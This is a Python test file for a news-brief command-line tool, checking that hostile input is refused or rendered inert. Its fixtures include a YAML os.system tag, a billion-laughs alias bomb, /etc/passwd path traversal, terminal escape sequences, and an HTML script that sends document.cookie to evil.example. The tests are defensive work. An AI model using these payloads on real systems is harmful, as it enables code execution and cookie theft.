"""Bad and hostile input: one clear line naming the file, exit 1, never a traceback,
never a hang; article text stays data (no markup, no escapes, no YAML tags, no scripts)."""

from __future__ import annotations

import os
import re
import time
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from tui.analysis.extract import extract
from tui.brief.articles import parse_markdown
from tui.brief.html_import import html_to_markdown
from tui.brief.load import load_brief
from tui.cli import main

ARTICLE = (
    "# Harbour board meets\n\nThe harbour board met on Monday to discuss the dredging budget for the port.\n"
)


def run(capsys, *argv: str) -> tuple[int, str, str]:
    rc = main(list(argv))
    out, err = capsys.readouterr()
    return rc, out, err


def one_error_line(err: str) -> str:
    """The single line a user error gives: no traceback, no second line."""
    assert "Traceback" not in err
    lines = err.splitlines()
    assert len(lines) == 1, err
    assert lines[0].startswith("newsbrief: ")
    return lines[0]


def brief(tmp_path: Path, spec: str, files: dict[str, str | bytes] | None = None) -> Path:
    folder = tmp_path / "brief"
    (folder / "sources").mkdir(parents=True)
    (folder / "brief.yaml").write_text(spec, encoding="utf-8")
    for name, content in (files or {}).items():
        path = folder / name
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
    return folder


# --- YAML ---------------------------------------------------------------------


def test_yaml_python_tags_are_refused_and_never_run(tmp_path, capsys):
    marker = tmp_path / "PWNED"
    folder = brief(
        tmp_path,
        f'title: !!python/object/apply:os.system ["touch {marker}"]\nsources: [sources/a.md]\n',
        {"sources/a.md": ARTICLE},
    )
    rc, out, err = run(capsys, "analyze", "--json", str(folder))
    assert rc == 1
    assert out == ""
    assert one_error_line(err) == (
        f"newsbrief: {folder}/brief.yaml:1: error: YAML tag tag:yaml.org,2002:python/object/apply:os.system is not allowed"
    )
    assert not marker.exists()


def test_yaml_tags_in_front_matter_are_refused(tmp_path, capsys):
    article = tmp_path / "a.md"
    article.write_text(
        "---\noutlet: Harbour Times\nauthor: !!python/name:os.getcwd\n---\n" + ARTICLE, encoding="utf-8"
    )
    rc, _, err = run(capsys, "analyze", "--json", str(article))
    assert rc == 1
    assert one_error_line(err) == (
        f"newsbrief: {article}:3: error: YAML tag tag:yaml.org,2002:python/name:os.getcwd is not allowed"
    )


def test_invalid_yaml_names_the_line(tmp_path, capsys):
    folder = brief(
        tmp_path,
        "title: Harbour\nsources:\n  - file: sources/a.md\n   id: [unclosed\n",
        {"sources/a.md": ARTICLE},
    )
    rc, _, err = run(capsys, "analyze", "--json", str(folder))
    assert rc == 1
    line = one_error_line(err)
    assert re.fullmatch(
        rf"newsbrief: {re.escape(str(folder))}/brief\.yaml:4: error: invalid YAML: .+", line
    ), line


def test_exponential_yaml_aliases_are_refused_in_one_line(tmp_path, capsys):
    """A "billion laughs" brief.yaml: eight levels of nine aliases stand for 43 million
    values. It is refused before anything walks it, load and check alike."""
    rows = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for prev, name in zip("abcdefg", "bcdefgh", strict=True):
        rows.append(f"{name}: &{name} [" + ",".join([f"*{prev}"] * 9) + "]")
    spec = "\n".join(rows) + "\nsources: [sources/a.md]\ntitle: *h\nignore: *h\nnotes: [*h]\n"
    folder = brief(tmp_path, spec, {"sources/a.md": ARTICLE})
    expected = f"{folder}/brief.yaml:6: error: YAML aliases expand this document to more than 100,000 values (refused)"
    rc, out, err = run(capsys, "analyze", "--json", str(folder))
    assert (rc, out) == (1, "")
    assert one_error_line(err) == f"newsbrief: {expected}"
    started = time.monotonic()
    rc, out, err = run(capsys, "check", str(folder))
    assert time.monotonic() - started < 2
    assert rc == 1
    assert err.splitlines() == [expected, "1 error(s), 0 warning(s)"]


def test_deeply_nested_yaml_is_an_error_not_a_crash(tmp_path, capsys):
    folder = brief(tmp_path, "sources: " + "[" * 5000 + "]" * 5000 + "\n")
    rc, _, err = run(capsys, "analyze", "--json", str(folder))
    assert rc == 1
    assert one_error_line(err) == f"newsbrief: {folder}/brief.yaml: error: invalid YAML: nested too deeply"


def test_duplicate_ids(tmp_path, capsys):
    folder = brief(
        tmp_path,
        "sources:\n  - id: harbour\n    file: sources/a.md\n  - id: Harbour\n    file: sources/b.md\n",
        {"sources/a.md": ARTICLE, "sources/b.md": ARTICLE},
    )
    rc, _, err = run(capsys, "analyze", "--json", str(folder))
    assert rc == 1
    assert one_error_line(err) == f"newsbrief: {folder}/brief.yaml:4: error: source 2: duplicate id 'harbour'"


# --- paths ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("file", "line"),
    [
        ("../../etc/passwd", "source 1: file '../../etc/passwd' is outside the brief folder"),
        ("/etc/passwd", "source 1: file '/etc/passwd' is outside the brief folder"),
        ("sources/../../secret.md", "source 1: file 'sources/../../secret.md' is outside the brief folder"),
    ],
)
def test_source_paths_escaping_the_folder_are_refused(tmp_path, capsys, file, line):
    (tmp_path / "secret.md").write_text(
        "# Secret\n\nNot part of any brief, never to be read.\n", encoding="utf-8"
    )
    folder = brief(tmp_path, f"sources:\n  - file: {file}\n")
    rc, out, err = run(capsys, "analyze", "--json", str(folder))
    assert rc == 1
    assert out == ""
    assert one_error_line(err) == f"newsbrief: {folder}/brief.yaml:2: error: {line}"


def test_a_symlink_out_of_the_folder_is_refused(tmp_path, capsys):
    secret = tmp_path / "secret.md"
    secret.write_text("# Secret\n\nNot part of any brief, never to be read.\n", encoding="utf-8")
    folder = brief(tmp_path, "sources:\n  - file: sources/link.md\n")
    (folder / "sources" / "link.md").symlink_to(secret)
    rc, _, err = run(capsys, "analyze", "--json", str(folder))
    assert rc == 1
    assert one_error_line(err) == (
        f"newsbrief: {folder}/brief.yaml:2: error: source 1: file 'sources/link.md' is a link to a file outside the brief folder"
    )
    # a folder without brief.yaml: every file in it is a source, but not a link out of it
    loose = tmp_path / "loose"
    loose.mkdir()
    (loose / "a.md").write_text(ARTICLE, encoding="utf-8")
    (loose / "b.md").symlink_to(secret)
    rc, _, err = run(capsys, "analyze", "--json", str(loose))
    assert rc == 1
    assert (
        one_error_line(err) == f"newsbrief: {loose}/b.md: error: is a link to a file outside the brief folder"
    )


def test_a_fifo_is_refused_not_read_forever(tmp_path, capsys):
    fifo = tmp_path / "pipe.md"
    os.mkfifo(fifo)
    rc, _, err = run(capsys, "analyze", "--json", str(fifo))
    assert rc == 1
    assert one_error_line(err) == f"newsbrief: {fifo}: error: is a named pipe (FIFO), not a file"


def test_escape_sequences_in_file_names_are_not_printed(tmp_path, capsys):
    name = tmp_path / "evil\x1b]0;owned\x07.md"
    rc, _, err = run(capsys, "analyze", "--json", str(name))
    assert rc == 1
    assert "\x1b" not in err and "\x07" not in err
    assert one_error_line(err) == f"newsbrief: {tmp_path}/evil?]0;owned?.md: error: no such file"


# --- files that are not articles ---------------------------------------------------


def test_missing_file(tmp_path, capsys):
    folder = brief(tmp_path, "sources:\n  - file: sources/gone.md\n")
    rc, _, err = run(capsys, "analyze", "--json", str(folder))
    assert rc == 1
    assert one_error_line(err) == f"newsbrief: {folder}/sources/gone.md: error: no such file"


def test_empty_brief(tmp_path, capsys):
    empty = tmp_path / "empty"
    empty.mkdir()
    rc, _, err = run(capsys, "analyze", "--json", str(empty))
    assert rc == 1
    assert one_error_line(err) == (
        f"newsbrief: {empty}: error: no article files (.md, .markdown, .txt, .html, .htm) found"
    )
    folder = brief(tmp_path, "")
    rc, _, err = run(capsys, "analyze", "--json", str(folder))
    assert one_error_line(err) == (
        f"newsbrief: {folder}/brief.yaml: error: brief.yaml is empty: it needs at least a 'sources' list"
    )
    blank = tmp_path / "blank.md"
    blank.write_text("\n\n   \n", encoding="utf-8")
    rc, _, err = run(capsys, "analyze", "--json", str(blank))
    assert rc == 1
    assert one_error_line(err) == f"newsbrief: {blank}: error: article is empty"


def test_non_utf8_text(tmp_path, capsys):
    latin = tmp_path / "cafe.txt"
    latin.write_bytes("Harbour café reopens\n\nThe café on the quay reopened.\n".encode("latin-1"))
    rc, _, err = run(capsys, "analyze", "--json", str(latin))
    assert rc == 1
    assert one_error_line(err) == f"newsbrief: {latin}:1: error: not UTF-8 text (byte 0xe9)"


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("blob.md", b"# Title\n\x00\x01\x02\x03" * 100, "binary file, not text"),
        ("photo.txt", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 10, "an image (PNG), not text"),
        (
            "report.md",
            b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj",
            "a PDF file, not text (copy its text into a .txt file)",
        ),
        ("noise.txt", bytes([1, 2, 3, 4, 5, 6, 14, 15, 16]) * 200, "binary file, not text"),
        ("notepad.txt", "Harbour news\n\nThe board met.\n".encode("utf-16"), "UTF-16 text: save it as UTF-8"),
    ],
)
def test_binary_files_get_one_clear_line(tmp_path, capsys, name, content, message):
    path = tmp_path / name
    path.write_bytes(content)
    rc, _, err = run(capsys, "analyze", "--json", str(path))
    assert rc == 1
    assert one_error_line(err) == f"newsbrief: {path}: error: {message}"


@pytest.mark.parametrize(("name", "limit"), [("huge.md", 5), ("huge.txt", 5), ("huge.html", 10)])
def test_a_20_mb_file_is_refused_quickly(tmp_path, capsys, name, limit):
    path = tmp_path / name
    path.write_bytes(
        (b"# Big\n\n" + b"All work and no play makes a long article. " * 500_000)[: 20 * 1024 * 1024]
    )
    started = time.monotonic()
    rc, _, err = run(capsys, "analyze", "--json", str(path))
    elapsed = time.monotonic() - started
    assert rc == 1
    assert (
        one_error_line(err)
        == f"newsbrief: {path}: error: file is too large (20.0 MiB; the limit is {limit} MiB)"
    )
    assert elapsed < 1.0
    rc, _, err = run(capsys, "new", str(tmp_path / "out"), str(path))
    assert rc == 1
    assert (
        one_error_line(err)
        == f"newsbrief: {path}: error: file is too large (20.0 MiB; the limit is {limit} MiB)"
    )


# --- text is data ---------------------------------------------------------------------

HOSTILE_BODY = (
    "# Harbour [bold red]board[/] meets \x1b[31mtonight\x1b[0m\n\n"
    "The board [link=file:///etc/passwd]voted[/link] on Monday\x07 to fund the \x1b]8;;file:///etc/passwd\x1b\\dredging"
    "\x1b]8;;\x1b\\ budget.\x1b]0;owned title\x07 Officials\x08\x08 said the \x9b31mport\u202e would reopen.\n\n"
    "A paragraph with [/] stray closing tags, [dim]dim[/dim] words and \\[escaped] brackets, about the harbour.\n"
)
CLEAN_TEXT = [
    "Harbour [bold red]board[/] meets tonight",
    "The board [link=file:///etc/passwd]voted[/link] on Monday to fund the dredging budget. Officials said the port would reopen.",
    "A paragraph with [/] stray closing tags, [dim]dim[/dim] words and \\[escaped] brackets, about the harbour.",
]


def _hostile(tmp_path: Path) -> Path:
    path = tmp_path / "hostile.md"
    path.write_text(
        "---\noutlet: '[blink]Evil Outlet[/blink]\x1b[5m'\n---\n" + HOSTILE_BODY, encoding="utf-8"
    )
    return path


def test_markup_escapes_and_controls_load_inert(tmp_path):
    loaded = load_brief(_hostile(tmp_path))
    article = loaded.articles[0]
    assert [b.text for b in article.blocks] == [
        CLEAN_TEXT[0],
        CLEAN_TEXT[1],
        "A paragraph with [/] stray closing tags, [dim]dim[/dim] words and [escaped] brackets, about the harbour.",
    ]
    assert article.headline == CLEAN_TEXT[0]
    assert article.outlet == "[blink]Evil Outlet[/blink]"
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", article.text)
    facts = extract(article)
    for item in [*facts.quotes, *facts.figures, *facts.dates]:
        assert article.text[item.start : item.end] == item.text


def test_markup_is_inert_in_the_terminal_report(tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("COLUMNS", "200")  # no folding inside the strings looked for
    rc, out, err = run(capsys, "analyze", str(_hostile(tmp_path)))
    assert rc == 0, err
    assert "[bold red]board[/]" in out
    assert "[blink]Evil Outlet[/blink]" in out
    assert "\x1b" not in out and "\x07" not in out


def test_markup_is_inert_in_the_markdown_export(tmp_path, capsys):
    rc, out, err = run(capsys, "export", str(_hostile(tmp_path)))
    assert rc == 0, err
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", out)
    html = MarkdownIt("commonmark").render(out)
    assert "file:///etc/passwd" not in re.findall(r'href="([^"]*)"', html)
    assert "[bold red]board[/]" in html
    assert "[blink]Evil Outlet[/blink]" in html
    assert "<blink>" not in html


def test_an_unbalanced_quote_does_not_swallow_the_article(tmp_path):
    path = tmp_path / "quote.md"
    path.write_text(
        "# Harbour board split over dredging\n\n"
        "The board chair, Wendell Osgood, said: “We will not be rushed into this. The board then moved on to "
        "other business, including the ferry timetable.\n\n"
        "Later the board approved a budget of $3 million for dredging, officials said.\n\n"
        "“This is a good day for the port,” said deputy chair Marisol Quenby.\n\n"
        "Residents were not consulted, according to a petition signed by 400 people.\n",
        encoding="utf-8",
    )
    article = load_brief(path).articles[0]
    facts = extract(article)
    for quote in facts.quotes:
        block = next(b for b in article.blocks if b.start <= quote.start <= b.end)
        assert quote.end <= block.end, quote
        assert len(quote.text) <= len(block.text)
        assert article.text[quote.start : quote.end] == quote.text
    assert not any("Residents were not consulted" in q.text for q in facts.quotes)
    # the next, balanced quote is still found, with its speaker
    assert ("Marisol Quenby", "This is a good day for the port") in [
        (q.speaker, q.text) for q in facts.quotes
    ]


def test_an_unbalanced_straight_quote_stays_in_its_paragraph(tmp_path):
    article = parse_markdown(
        "x",
        "# Harbour board split\n\n"
        'Wendell Osgood said: "We will not be rushed. The board then moved on.\n\n'
        '"This is a good day for the port," said Marisol Quenby. She added: "And for us.\n\n'
        'Residents said "no" and "never" to the plan, and 400 people signed a petition.\n',
    )
    facts = extract(article)
    for quote in facts.quotes:
        block = next(b for b in article.blocks if b.start <= quote.start <= b.end)
        assert quote.end <= block.end, quote
        assert article.text[quote.start : quote.end] == quote.text
    assert ("Marisol Quenby", "This is a good day for the port") in [
        (q.speaker, q.text) for q in facts.quotes
    ]
    assert not any("petition" in q.text for q in facts.quotes)


HOSTILE_HTML = """<!doctype html><html><head><title>Harbour vote - Quay Post</title>
<meta property="og:site_name" content="Quay Post\x1b[31m
  [bold]News[/bold]">
<script>var secret = "HEAD-SCRIPT-BODY"; fetch("https://evil.example/?c=" + document.cookie);</script>
<style>p { content: "STYLE-BODY" }</style></head>
<body onload="alert('ONLOAD-HANDLER')">
<article><h1>Harbour board votes to dredge the channel</h1>
<p>The harbour board voted on Monday to dredge the shipping channel <script>document.write("INLINE-SCRIPT-BODY")</script>before the autumn storms, its chair said.</p>
<p>Dredging will begin in September and cost about $3 million, according to board papers seen by the Quay Post.<img src="x" onerror="alert('ONERROR-HANDLER')"></p>
<svg><script>SVG-SCRIPT-BODY</script></svg>
<template><p>TEMPLATE-BODY is never shown on the page.</p></template>
<noscript><p>NOSCRIPT-BODY: please enable scripts to read this article.</p></noscript>
<iframe srcdoc="&lt;script&gt;IFRAME-BODY&lt;/script&gt;"></iframe>
<p>A reader asked whether <a href="javascript:alert('JS-LINK')">the vote</a> was fair. The text &lt;script&gt;alert(1)&lt;/script&gt; is only words here.</p>
</article></body></html>"""


def test_html_scripts_never_become_article_text(tmp_path, capsys):
    meta, markdown = html_to_markdown(HOSTILE_HTML)
    assert meta["outlet"] == "Quay Post [bold]News[/bold]"
    for body in [
        "HEAD-SCRIPT-BODY",
        "document.cookie",
        "STYLE-BODY",
        "ONLOAD",
        "INLINE-SCRIPT-BODY",
        "ONERROR",
        "SVG-SCRIPT-BODY",
        "TEMPLATE-BODY",
        "NOSCRIPT-BODY",
        "IFRAME-BODY",
        "JS-LINK",
        "javascript:",
    ]:
        assert body not in markdown, body
    page = tmp_path / "quay-post.html"
    page.write_text(HOSTILE_HTML, encoding="utf-8")
    article = load_brief(page).articles[0]
    assert [b.text for b in article.blocks] == [
        "Harbour board votes to dredge the channel",
        "The harbour board voted on Monday to dredge the shipping channel before the autumn storms, its chair said.",
        "Dredging will begin in September and cost about $3 million, according to board papers seen by the Quay Post.",
        "A reader asked whether the vote was fair. The text <script>alert(1)</script> is only words here.",
    ]
    rc, out, err = run(capsys, "analyze", "--json", str(page))
    assert rc == 0, err
    assert "SCRIPT-BODY" not in out and "ONERROR" not in out


def test_a_deeply_nested_page_is_handled(tmp_path, capsys):
    page = tmp_path / "nested.html"
    page.write_text(
        "<html><body>"
        + "<div>" * 3000
        + "<p>The harbour board met on Monday to discuss the dredging budget.</p>"
        + "</div>" * 3000
        + "</body></html>",
        encoding="utf-8",
    )
    rc, _, err = run(capsys, "analyze", "--json", str(page))
    assert "Traceback" not in err
    assert rc in (0, 1)
    if rc == 1:
        one_error_line(err)


@pytest.mark.parametrize(
    ("body", "seconds"),
    [
        pytest.param("word " * 40_000, 5, id="no-punctuation"),
        pytest.param("“said Alpha Beta " * 12_000, 5, id="opening-quotes"),
        pytest.param('He said "yes and then ' * 10_000, 5, id="straight-quotes"),
        pytest.param("Alpha Beta Gamma Delta " * 10_000, 5, id="capitalised-words"),
        pytest.param("3,000 arrests per day. 12% of $2.3 billion. " * 4_000, 8, id="figures"),
        pytest.param("3,000 arrests per day 12% $2.3 billion " * 1_000, 5, id="figures-in-one-sentence"),
        pytest.param("Mr. Dr. U.S. St. " * 3_000, 3, id="abbreviations"),
    ],
)
def test_pathological_text_is_analysed_in_seconds(tmp_path, capsys, body, seconds):
    """Not a hang, and not an output out of all proportion to the input."""
    path = tmp_path / "odd.md"
    path.write_text("# Odd\n\n" + body, encoding="utf-8")
    started = time.monotonic()
    rc, out, err = run(capsys, "analyze", "--json", str(path))
    assert rc == 0, err
    assert time.monotonic() - started < seconds
    assert len(out) < 50 * len(body) + 100_000
